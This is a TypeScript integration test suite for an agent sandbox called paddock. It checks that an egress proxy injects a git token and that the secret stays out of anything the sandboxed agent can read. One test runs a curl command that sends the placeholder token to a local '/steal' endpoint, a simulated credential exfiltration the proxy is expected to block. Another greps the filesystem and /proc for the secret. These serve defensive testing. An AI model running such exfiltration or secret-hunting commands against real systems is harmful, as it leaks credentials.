import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { paddockPaths } from "../src/paths/index.js";
import { startDaemon, stopDaemon } from "./daemon-helpers.js";
import { eventually, startOrigin } from "./egress-helpers.js";
import { paddock, scratch, writeCard } from "./helpers.js";
import { makePki, startGitServer, startHttpsOrigin } from "./tls-helpers.js";

for (const backend of ["bwrap", "gvisor"] as const) describe(`credentials in a real sandbox (${backend}): git push with an injected token, the secret nowhere inside`, () => {
  const { dir, env } = scratch("paddock-cred-box-");
  const secrets = join(dir, "secrets");
  const tokenFile = join(secrets, "forge-token");
  const forge = join(dir, "forge");
  const workspace = join(dir, "ws");
  let token = `ghs_${randomBytes(18).toString("hex")}`;
  let git: Awaited<ReturnType<typeof startGitServer>>;
  let plain: Awaited<ReturnType<typeof startOrigin>>;
  let card: string;
  let paddockEnv: NodeJS.ProcessEnv;

  before(async () => {
    for (const d of [secrets, forge, workspace]) mkdirSync(d, { recursive: true });
    writeFileSync(tokenFile, `${token}\n`, { mode: 0o600 });
    const pki = makePki(dir, ["localhost"]);
    execFileSync("git", ["init", "-q", "--bare", "-b", "main", join(forge, "repo.git")]);
    const seed = join(dir, "seed");
    execFileSync("sh", ["-c", `git init -q -b main ${seed} && cd ${seed} && echo first > README && git add README && git -c user.email=a@b -c user.name=a commit -qm first && git push -q ${join(forge, "repo.git")} main`]);
    git = await startGitServer(pki, forge, () => token);
    plain = await startOrigin();
    const port = git.port;
    card = writeCard(dir, "pusher.json", {
      agent_id: `pusher-${backend}`,
      backend,
      workspace,
      kind: "command",
      command: ["true"],
      tools: ["sh", "coreutils", "grep", "sed", "findutils", "git", "curl"],
      allowed_hosts: [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, `127.0.0.1:${plain.port}`],
      credentials: [{ name: "forge", host: `localhost:${port}`, inject: { basic: { user: "x-access-token", password: "${secret}" } }, secret: { file: "secrets/forge-token" }, placeholder_env: "GITHUB_TOKEN" }],
    });
    // The forge's certificate is signed by the test's CA: the proxy is told to trust it, as a private CA would be.
    paddockEnv = { ...env, PADDOCK_EGRESS_UPSTREAM_CA: pki.caFile };
  });
  after(() => {
    git.server.close();
    plain.server.close();
  });

  const inside = (script: string, input?: string) => paddock(["exec", "--card", card, "--", "sh", "-c", `export NO_PROXY= no_proxy=; ${script}`], { env: paddockEnv, input });

  it("clones and pushes over HTTPS with the token the proxy injects; the forge saw the token on every request", async () => {
    const r = await inside(
      `git clone -q https://localhost:${git.port}/repo.git repo && cd repo && echo from-the-sandbox > pushed.txt && git add pushed.txt && git -c user.email=agent@paddock -c user.name=agent commit -qm "from the sandbox" && git push -q origin HEAD:main && echo "pushed; GITHUB_TOKEN=$GITHUB_TOKEN"`,
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^pushed; GITHUB_TOKEN=paddock-placeholder-[0-9a-f]{32}$/m);
    assert.equal(execFileSync("git", ["--git-dir", join(forge, "repo.git"), "log", "-1", "--format=%s", "main"], { encoding: "utf8" }).trim(), "from the sandbox");
    assert.equal(git.refused(), 0, "no request reached the forge without the token");
    const log = await paddock(["egress", "log", "--agent", `pusher-${backend}`], { env: paddockEnv });
    assert.match(log.stdout, /ALLOW .* POST +localhost:\d+ +allowed .*injected: forge/);
    assert.ok(!log.stdout.includes(token));
  });

  it("the secret is in nothing the agent can read: no file, no environment, no command line (and the search does find the placeholder)", async () => {
    // The secret comes in on stdin into a shell variable: not exported, not on a command line, not in a file.
    const r = await inside(
      [
        "read -r secret",
        "printf '%s\\n' \"$secret\" | grep -rlsF --devices=skip -f - / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev; echo files-searched",
        "printf '%s\\n' \"$secret\" | grep -lsaF -f - /proc/[0-9]*/environ /proc/[0-9]*/cmdline; echo proc-searched",
        "printf '%s\\n' \"$GITHUB_TOKEN\" | grep -lsaF -f - /proc/[0-9]*/environ | head -1 | sed 's/^/placeholder found in /'",
      ].join("; "),
      `${token}\n`,
    );
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.replace(/placeholder found in .*\n/, ""), "files-searched\nproc-searched\n");
    assert.match(r.stdout, /^placeholder found in \/proc\/\d+\/environ$/m);
  });

  it("refuses the placeholder on its way to another host, and the forge takes a rotated token at once", async () => {
    const r = await inside(`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" http://127.0.0.1:${plain.port}/steal`);
    assert.match(r.stdout, /reason: credential_exfiltration: the request carries the placeholder or secret of credential 'forge'/);
    assert.ok(!plain.hits.some((h) => h.includes("/steal")), "the other host saw nothing");
    token = `ghs_${randomBytes(18).toString("hex")}`;
    writeFileSync(tokenFile, token);
    const again = await inside(`git ls-remote https://localhost:${git.port}/repo.git main`);
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stdout, /refs\/heads\/main/);
    assert.equal(git.refused(), 0);
  });

  it("refuses a secret file the agent could write, and a credential host the allowlist does not cover", async () => {
    writeFileSync(join(workspace, "token"), "in-reach\n");
    const inReach = writeCard(dir, "in-reach.json", { agent_id: "reachy", backend, workspace, kind: "command", command: ["true"], allowed_hosts: ["api.forge.test"], credentials: [{ host: "api.forge.test", inject: { header: "Authorization", value: "token ${secret}" }, secret: { file: "ws/token" } }] });
    const r = await paddock(["exec", "--card", inReach], { env: paddockEnv });
    assert.equal(r.code, 125);
    assert.match(r.stderr, /credentials\[0\]\.secret\.file: .*ws\/token is inside .*ws, which the agent can write/);
    const validated = await paddock(["card", "validate", inReach], { env: paddockEnv });
    assert.equal(validated.code, 1);
    assert.match(validated.stderr + validated.stdout, /in-reach\.json:\d+:\d+: credentials\[0\]\.secret\.file: .*ws\/token is inside .*ws, which the agent can write/);
    const uncovered = writeCard(dir, "uncovered.json", { agent_id: "uncovered", workspace, kind: "command", command: ["true"], allowed_hosts: ["example.com"], credentials: [{ host: "api.forge.test", inject: { header: "Authorization", value: "token ${secret}" }, secret: { env: "X" } }] });
    const u = await paddock(["exec", "--card", uncovered], { env: paddockEnv });
    assert.equal(u.code, 125);
    assert.match(u.stderr, /uncovered\.json:\d+:\d+: credentials\[0\]\.host: 'api\.forge\.test' is not covered by allowed_hosts/);
  });
});

describe("credentials in the daemon: a running agent keeps injecting through a daemon killed and taken over", () => {
  it("the next daemon serves the agent with the CA its sandbox trusts, and the agent's stop removes it", async () => {
    const { dir, env } = scratch("paddock-cred-daemon-");
    const workspace = join(dir, "ws");
    mkdirSync(workspace);
    writeFileSync(join(dir, "api-key"), "daemon-held-secret-1234\n");
    const pki = makePki(dir, ["localhost"]);
    const origin = await startHttpsOrigin(pki);
    const daemonEnv = { ...env, PADDOCK_EGRESS_UPSTREAM_CA: pki.caFile };
    const card = writeCard(dir, "looper.json", {
      agent_id: "looper",
      workspace,
      kind: "command",
      command: ["sh", "-c", `export NO_PROXY= no_proxy=; while true; do curl -sS -o /dev/null -w 'status %{http_code}\\n' -H "X-Api-Key: $API_KEY" https://localhost:${origin.port}/ping; sleep 0.3; done`],
      tools: ["sh", "coreutils", "curl"],
      allowed_hosts: [`localhost:${origin.port}`, `127.0.0.1:${origin.port}`, `[::1]:${origin.port}`],
      credentials: [{ host: `localhost:${origin.port}`, inject: { header: "X-Api-Key", value: "${secret}" }, secret: { file: "api-key" }, placeholder_env: "API_KEY" }],
    });
    const injectedSince = (n: number) => origin.seen.slice(n).filter((s) => s.headers["x-api-key"] === "daemon-held-secret-1234").length;
    const first = await startDaemon(daemonEnv);
    let second: Awaited<ReturnType<typeof startDaemon>> | undefined;
    try {
      const spawned = await paddock(["spawn", card], { env: daemonEnv });
      assert.equal(spawned.code, 0, spawned.stderr);
      await eventually(async () => (injectedSince(0) > 0 ? true : undefined), 15_000);
      first.child.kill("SIGKILL");
      await new Promise((resolve) => first.child.once("exit", resolve));
      const mark = origin.seen.length;
      second = await startDaemon(daemonEnv);
      assert.match(second.output(), /agent taken over from a previous daemon","agent_id":"looper"/);
      await eventually(async () => (injectedSince(mark) >= 2 ? true : undefined), 15_000).catch(() => assert.fail(`no injected request after the takeover; the agent said:\n${readFileSync(join(paddockPaths(env).data, "logs", "agents", "looper.log"), "utf8").slice(-800)}`));
      const egressDir = join(paddockPaths(env).runtime, "egress");
      assert.ok(readdirSync(egressDir).some((f) => f.endsWith(".ca.json")), "the agent's CA is kept beside its socket");
      const stopped = await paddock(["stop", "looper", "--grace", "1"], { env: daemonEnv });
      assert.equal(stopped.code, 0, stopped.stderr);
      await eventually(async () => (readdirSync(egressDir).some((f) => f.startsWith("looper-")) ? undefined : true), 10_000).catch(() => assert.fail(`left in ${egressDir}: ${readdirSync(egressDir).join(", ")}`));
    } finally {
      first.child.kill("SIGKILL");
      if (second) await stopDaemon(second.child);
      origin.server.close();
    }
  });
});
